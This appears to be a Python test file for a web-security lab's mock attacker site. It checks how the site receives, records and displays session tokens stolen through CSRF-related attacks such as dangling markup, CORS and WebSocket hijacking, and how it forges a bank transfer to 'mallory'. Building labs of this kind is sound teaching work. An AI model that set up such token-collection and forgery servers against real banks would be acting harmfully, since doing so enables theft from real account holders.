"""What the attacker's server makes of what a browser brings to it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from werkzeug.test import Client, TestResponse

from attacker_site.tests.conftest import EVIL, Document, closed_port, site
from attacker_site.tests.test_exploits import CATCHERS

LAB = "session-token--for-otter42"
TOKEN = "abc-_123"
PAGE = f'''</div></div><form action="/transfer"><input type="hidden" name="token" value="{TOKEN}">
<label>To <input name="to" value="x"></label></form>'''
# How each attack's loot arrives, and what is noted of it.
ARRIVALS: dict[str, tuple[dict[str, Any], dict[str, str]]] = {
    "redirect-307-post": ({"data": {"token": TOKEN}}, {"token": TOKEN}),
    "dangling-markup": ({"data": {"page": PAGE}}, {"token": TOKEN}),
    "cors-token-theft": ({"data": {"token": TOKEN}}, {"token": TOKEN}),
    "websocket-hijack": (
        {"json": {"name": "alice", "balance": 900, "payments": [{"amount": 100}]}},
        {"name": "alice", "balance": "900", "payments": "[{'amount': 100}]"},
    ),
    "token-leak-referer": (
        {"headers": {"Referer": f"http://x.bank.localhost:8000/pay?to=a&amount=1&token={TOKEN}"}},
        {"token": TOKEN},
    ),
}
# Bodies that make no sense, and are noted as nothing.
NONSENSE = {
    "nothing": {},
    "broken JSON": {"data": b"{", "content_type": "application/json"},
    "a JSON list": {"json": [1]},
    "deep JSON": {"data": b"[" * 100_000, "content_type": "application/json"},
    "bytes": {"data": b"\xff\xfe\x00", "content_type": "application/x-www-form-urlencoded"},
    "broken multipart": {"data": b"--x", "content_type": "multipart/form-data; boundary=y"},
    "broken markup": {"data": {"page": "<![" * 100}},
    "a broken Referer": {"headers": {"Referer": "http://[::1/?token=x"}},
}


class Attacker:
    """The site while the bank is down, and its notebook."""

    def __init__(self, var_dir: Path) -> None:
        self._client = Client(site(f"127.0.0.1:{closed_port()}", var_dir))

    def ask(self, path: str, method: str = "POST", **said: Any) -> TestResponse:
        return self._client.open(path, base_url=f"http://{EVIL}", method=method, **said)

    def loot(self) -> list[dict[str, Any]]:
        answer = self.ask(f"/loot.json?lab={LAB}", "GET")
        entries: list[dict[str, Any]] = json.loads(answer.text)["loot"]
        return entries


@pytest.fixture
def attacker(tmp_path: Path) -> Attacker:
    return Attacker(tmp_path)


def test_every_attack_that_steals_is_tried_here() -> None:
    assert set(ARRIVALS) == set(CATCHERS)


@pytest.mark.parametrize("slug", sorted(ARRIVALS))
def test_loot_is_noted_shown_and_used(attacker: Attacker, slug: str) -> None:
    said, noted = ARRIVALS[slug]

    answer = attacker.ask(f"/{slug}/caught/?lab={LAB}", **said)

    (entry,) = attacker.loot()
    assert (entry["attack"], entry["fields"]) == (slug, noted)
    page = attacker.ask(f"/loot/?lab={LAB}", "GET").text
    assert all(value in page.replace("&#39;", "'") for value in noted.values())
    if answer.status_code == 204:
        return
    fields = {one["name"]: one["value"] for one in Document(answer.text).all("input")}
    assert fields == {"to": "mallory", "amount": "100", **noted}
    panel = attacker.ask(f"/{slug}/{Document(answer.text).link('behind/')}", "GET").text
    assert TOKEN in panel


@pytest.mark.parametrize("said", NONSENSE.values(), ids=NONSENSE)
@pytest.mark.parametrize("slug", sorted(ARRIVALS))
def test_nonsense_is_survived(attacker: Attacker, slug: str, said: dict[str, Any]) -> None:
    answer = attacker.ask(f"/{slug}/caught/?lab={LAB}", **said)

    assert answer.status_code in {200, 204}
    assert all(TOKEN not in str(entry) for entry in attacker.loot())


def test_what_is_stolen_cannot_change_what_is_forged(attacker: Attacker) -> None:
    said = {"to": "alice", "amount": "1", "token": TOKEN}

    page = attacker.ask(f"/redirect-307-post/caught/?lab={LAB}", data=said).text

    fields = {one["name"]: one["value"] for one in Document(page).all("input")}
    assert fields == {"to": "mallory", "amount": "100", "token": TOKEN}


def test_loot_is_shown_as_text(attacker: Attacker) -> None:
    said = {"token": "<script>alert(1)</script>"}

    page = attacker.ask(f"/redirect-307-post/caught/?lab={LAB}", data=said).text

    assert "<script>alert" not in page + attacker.ask(f"/loot/?lab={LAB}", "GET").text


def test_much_loot_is_cut(attacker: Attacker) -> None:
    attacker.ask(
        f"/redirect-307-post/caught/?lab={LAB}", data={f"f{n}": "x" * 3000 for n in range(30)}
    )

    (entry,) = attacker.loot()
    assert len(entry["fields"]) == 20
    assert max(map(len, entry["fields"].values())) == 1000


def test_a_body_that_is_too_long_is_refused(attacker: Attacker) -> None:
    answer = attacker.ask(f"/redirect-307-post/caught/?lab={LAB}", data={"token": "x" * 300_000})

    assert answer.status_code == 413
    assert attacker.loot() == []


def test_nothing_arrives_at_an_attack_that_steals_nothing(attacker: Attacker) -> None:
    answer = attacker.ask(f"/form-post/caught/?lab={LAB}")

    assert answer.status_code == 404
    assert "doesn’t steal anything" in answer.text


def test_a_post_is_taken_nowhere_else(attacker: Attacker) -> None:
    paths = ["/", "/form-post/", "/form-post/behind/", "/loot/", "/loot.json", "/health"]

    assert {attacker.ask(path).status_code for path in paths} == {405}


def test_a_body_of_unknown_length_is_refused(attacker: Attacker) -> None:
    """The server hands none over, so it would be noted as nothing."""
    chunked = {"Transfer-Encoding": "chunked"}
    answer = attacker.ask(f"/redirect-307-post/caught/?lab={LAB}", headers=chunked)

    assert answer.status_code == 411
    assert "Content-Length" in answer.text
    assert attacker.loot() == []
